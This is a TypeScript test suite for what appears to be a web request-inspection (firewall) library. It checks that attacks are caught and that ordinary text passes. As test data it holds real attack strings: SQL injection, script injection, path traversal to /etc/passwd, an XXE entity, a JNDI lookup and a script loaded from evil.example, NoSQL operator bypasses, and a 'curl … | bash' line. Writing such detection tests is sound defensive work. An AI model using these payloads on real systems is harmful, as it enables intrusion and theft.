import t from 'tap'
import {
  compileRuleset,
  inspectRequest,
  PRESETS,
  type RequestParts,
  type RulesetOptions,
  ValueInspector,
} from '../src/index.ts'

const UNION = "1' UNION SELECT password FROM users -- "
const SCRIPT = '<script>alert(1)</script>'

t.test('finds an attack in every part of a request', async (t) => {
  const places: [string, Partial<RequestParts>][] = [
    ['path', { path: `/item/${encodeURIComponent(UNION)}` }],
    ['path', { path: `/item/${Buffer.from(UNION).toString('base64url')}` }],
    ['query', { query: `id=${encodeURIComponent(UNION)}` }],
    ['query', { query: `${encodeURIComponent(SCRIPT)}=1` }],
    ['query', { query: encodeURIComponent(UNION) }],
    ['header', { headers: ['X-Anything', UNION] }],
    ['header', { headers: ['Referer', `https://app.test/?q=${encodeURIComponent(SCRIPT)}`] }],
    ['cookie', { headers: ['Cookie', `a=b; id=${encodeURIComponent(UNION)}`] }],
  ]
  for (const [part, parts] of places) {
    const verdict = inspect(parts)
    t.ok(verdict.isAttack, JSON.stringify(parts))
    t.equal(verdict.matches[0]?.part, part)
  }
})

t.test('finds an attack in a body of every kind, whatever it is called', async (t) => {
  const form = `id=${encodeURIComponent(UNION)}`
  const json = JSON.stringify({ a: [{ b: UNION }] })
  const multipart = `--x\r\nContent-Disposition: form-data; name="id"\r\n\r\n${UNION}\r\n--x--\r\n`
  const bodies: [string, string][] = [
    ['application/x-www-form-urlencoded', form],
    ['APPLICATION/X-WWW-FORM-URLENCODED ; charset=utf-8', form],
    ['application/json', json],
    ['application/vnd.api+json', json],
    ['application/json', json.slice(0, -1)],
    ['text/plain', json],
    ['', form],
    ['', UNION],
    ['multipart/form-data; boundary=x', multipart],
    ['multipart/form-data; boundary=X', multipart.replaceAll('--x', '--X')],
    ['application/xml', `<a>${UNION}</a>`],
    ['text/xml', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'],
  ]
  for (const [contentType, body] of bodies)
    t.ok(post(contentType, body).isAttack, `${contentType}: ${body.slice(0, 60)}`)
})

t.test('says which rule fired where, with a short excerpt', async (t) => {
  const verdict = post('application/json', JSON.stringify({ title: 'x', comment: `see ${SCRIPT}` }))
  const [match] = verdict.matches
  t.equal(match?.rule.id, 'xss-script-tag')
  t.equal(match?.parameter, 'comment')
  t.match(match?.excerpt, '<script>')
  t.ok((match?.excerpt.length ?? 99) <= 80)
})

t.test('takes off several layers of coding', async (t) => {
  const twice = encodeURIComponent(encodeURIComponent(encodeURIComponent(SCRIPT)))
  t.ok(inspect({ query: `q=${twice}` }).isAttack)
  t.ok(inspect({ query: `q=${Buffer.from(encodeURIComponent(SCRIPT)).toString('base64')}` }).isAttack)
  t.ok(
    inspect({
      headers: ['Cookie', `q=${encodeURIComponent(JSON.stringify({ url: `/?x=${encodeURIComponent(SCRIPT)}` }))}`],
    }).isAttack,
  )
})

t.test('passes what people write', async (t) => {
  const texts = [
    "It's 5 o'clock -- don't drop the table; select a chair from the list, or 1 of 2 others.",
    'Rock & roll | jazz; cats > dogs <3, 50% off (today only)!',
    '# Title\n\nUse `cat file` or **bold** and [a link](https://example.org/?a=1&b=2#top).\n\n- one\n- two',
    'The union selected a speaker. Where are we in order by now? Having fun and/or games = good.',
    'Herr Müller sagt: „Ich komme um 8 oder 9“ – und dann?',
    'https://example.org/search?q=select+a+car&order=by+price',
    '{"kind":"list","items":[1,2,3]}',
    `say {{SERVER_PORT}} and \${name}`,
    'the /etc/hosts file is described in the handbook of the system',
  ]
  for (const text of texts) {
    t.equal(inspect({ query: `q=${encodeURIComponent(text)}` }).isAttack, false, text)
    t.equal(post('application/json', JSON.stringify({ text })).isAttack, false, text)
  }
})

t.test('does not look into files, binaries and credentials of the protocol', async (t) => {
  const file = `--x\r\nContent-Disposition: form-data; name="f"; filename="a.sql"\r\n\r\n${UNION}\r\n--x--\r\n`
  t.notOk(post('multipart/form-data; boundary=x', file).isAttack)
  t.notOk(post('application/octet-stream', UNION).isAttack)
  t.notOk(post('image/svg+png', SCRIPT).isAttack)
  t.notOk(inspect({ headers: ['Accept', UNION] }).isAttack)
})

t.test('a signature in front of a form does not make it a file', async (t) => {
  const body = Buffer.concat([Buffer.from([0x1f, 0x8b]), Buffer.from(`a=1&id=${encodeURIComponent(UNION)}`)])
  t.ok(inspect({ method: 'POST', headers: ['Content-Type', 'application/x-www-form-urlencoded'], body }).isAttack)
})

t.test('weak signs far apart in a long text do not add up, near each other they do', async (t) => {
  const weak = ['see ../x', 'or /bin/cat x']
  const near = inspect({ query: `q=${encodeURIComponent(weak.join(' '))}` }).score
  const far = inspect({ query: `q=${encodeURIComponent(weak.join(' word'.repeat(100)))}` }).score
  t.ok(near > far, `${near} > ${far}`)
})

t.test('sensitivity, groups and exclusions decide what counts', async (t) => {
  const parts = { query: `q=${encodeURIComponent('1 AND user = 5')}` }
  t.notOk(inspect(parts).isAttack)
  t.ok(inspect(parts, { sensitivity: 'high' }).isAttack)
  const attack = { path: '/posts/5', query: `q=${encodeURIComponent(SCRIPT)}` }
  t.ok(inspect(attack).isAttack)
  const passes: RulesetOptions[] = [
    { disabledGroups: ['xss'] },
    { exclusions: [{ rule: 'xss' }] },
    { exclusions: [{ path: '/posts/*', part: 'query', parameter: 'Q' }] },
  ]
  for (const options of passes) t.notOk(inspect(attack, options).isAttack, JSON.stringify(options))
  const holds: RulesetOptions[] = [
    { disabledGroups: ['sql_injection'] },
    { exclusions: [{ rule: 'xss-script-tag', path: '/other/*' }] },
    { exclusions: [{ part: 'body' }] },
    { exclusions: [{ parameter: 'other' }] },
  ]
  for (const options of holds) t.ok(inspect(attack, options).isAttack, JSON.stringify(options))
})

t.test(
  'at every sensitivity what is beyond doubt is an attack, and what is in doubt is not at the lowest',
  async (t) => {
    const attacks = [
      "' OR 1=1--",
      "' or 'a'='a",
      "1' union select null,null-- ",
      '1 union select 1,2',
      "'; drop table users--",
      '1 and sleep(5)',
      '<script>alert(1)</script>',
      '<script src=//evil.example/x></script>',
      '<img src=x onerror=alert(1)>',
      'javascript:alert(1)',
      '../../etc/passwd',
      '../../../../../../x',
      '; cat /etc/passwd',
      `$\{jndi:ldap://evil.example/a}`,
    ]
    for (const attack of attacks)
      t.ok(inspect({ query: `q=${encodeURIComponent(attack)}` }, { sensitivity: 'low' }).isAttack, attack)
    for (const text of ['1 or 1=1', 'union select', '{{7*7}}', 'run $(whoami)']) {
      t.notOk(inspect({ query: `q=${encodeURIComponent(text)}` }, { sensitivity: 'low' }).isAttack, text)
      t.ok(inspect({ query: `q=${encodeURIComponent(text)}` }).isAttack, text)
    }
  },
)

t.test('passes talk about code, arithmetic and other things that only look like attacks', async (t) => {
  const texts = [
    '1 or 1 = 1 is a tautology; 0 and 1 = 0 is a contradiction.',
    "She wrote 'select' on the box, and 'from' under it.",
    'how to union select in sql',
    'How to use GROUP BY with HAVING count(*) > 1',
    'ALTER TABLE takes ages on MariaDB 10.6',
    "4' or 5'",
    `"O'Brien" or "D'Arcy"`,
    'sleep(8) hours a night, they say',
    'I love C&A & H&M & more; cat & dog lovers too!',
    'find me; ping me',
    'run `ls -la | grep conf` and tell me what is there.',
    '```python\nimport os\n```',
    'use `alert` here',
    'The <script> tag must be closed with </script>.',
    'Use the <iframe> embed code from YouTube',
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2L2 7z"/></svg>',
    'document.cookie is empty in my tests, why?',
    "{{ states('sensor.temperature') | float(0) }}",
    'def __init__(self, name): self.__class__.__name__',
    'C:\\Program Files (x86)\\Steam\\steamapps',
    '/usr/local/bin:/usr/bin:/bin',
  ]
  for (const text of texts) {
    t.equal(inspect({ query: `q=${encodeURIComponent(text)}` }).isAttack, false, text)
    t.equal(inspect({ headers: ['Cookie', `q=${encodeURIComponent(text)}`] }).isAttack, false, text)
    t.equal(post('application/json', JSON.stringify({ text })).isAttack, false, text)
  }
})

t.test('two rulesets that share an inspector judge for themselves', async (t) => {
  const inspector = new ValueInspector()
  const strict = compileRuleset({ sensitivity: 'high' }, inspector)
  const lenient = compileRuleset({ disabledGroups: ['xss'] }, inspector)
  const parts = { method: 'GET', path: '/', query: `q=${encodeURIComponent(SCRIPT)}`, headers: [] }
  t.ok(inspectRequest(parts, strict).isAttack)
  t.notOk(inspectRequest(parts, lenient).isAttack)
  t.ok(inspectRequest(parts, strict).isAttack)
})

t.test('an exclusion that names no path is refused', async (t) => {
  t.throws(() => compileRuleset({ exclusions: [{ path: 'posts' }] }), /"posts" is no path pattern/)
})

t.test('presets let the files of a panel and the ciphertexts of a vault pass, and nothing else', async (t) => {
  const body = Buffer.from('#!/bin/bash\nrm -rf /tmp/x; curl http://a.example/x | bash\n')
  const write = {
    method: 'POST',
    path: '/api/client/servers/1a2b/files/write',
    headers: ['Content-Type', 'text/plain'],
    body,
  }
  const options = { exclusions: PRESETS.pterodactyl }
  t.ok(inspect(write).isAttack)
  t.notOk(inspect(write, options).isAttack)
  t.ok(inspect({ ...write, path: '/api/client/servers/1a2b/other' }, options).isAttack)
  t.ok(inspect({ ...write, query: `file=${encodeURIComponent('../../../../etc/passwd')}` }, options).isAttack)
  const cipher = {
    method: 'POST',
    path: '/api/ciphers',
    headers: ['Content-Type', 'application/json'],
    body: Buffer.from(JSON.stringify({ name: SCRIPT })),
  }
  t.notOk(inspect(cipher, { exclusions: PRESETS.vaultwarden }).isAttack)
})

function inspect(parts: Partial<RequestParts>, options: RulesetOptions = {}) {
  return inspectRequest({ method: 'GET', path: '/', query: '', headers: [], ...parts }, compileRuleset(options))
}

function post(contentType: string, body: string) {
  return inspect({ method: 'POST', headers: ['Content-Type', contentType], body: Buffer.from(body) })
}

t.test('operators in place of a password are attacks, those of searches and schemas are not', async (t) => {
  const judge = (body: unknown) =>
    inspect({ headers: ['Content-Type', 'application/json'], body: Buffer.from(JSON.stringify(body)) })
  for (const body of [
    { username: { $gt: '' }, password: { $gt: '' } },
    { user: 'admin', passwort: { $regex: '.*' } },
    { a: { constructor: { prototype: { isAdmin: true } } } },
  ])
    t.ok(judge(body).isAttack, JSON.stringify(body))
  t.ok(post('application/json', '{"password" : {\n "\\u0024ne": 1}}').isAttack, 'an escaped key')
  for (const body of [
    { where: { user: { $in: ['a', 'b'] }, price: { $gt: 5 } } },
    { properties: { password: { $ref: '#/definitions/text' }, pin: { $type: 'string' } } },
    { constructor: 'Bau GmbH', prototype: true, name: 'password', $regex: 'off' },
  ])
    t.notOk(judge(body).isAttack, JSON.stringify(body))
})
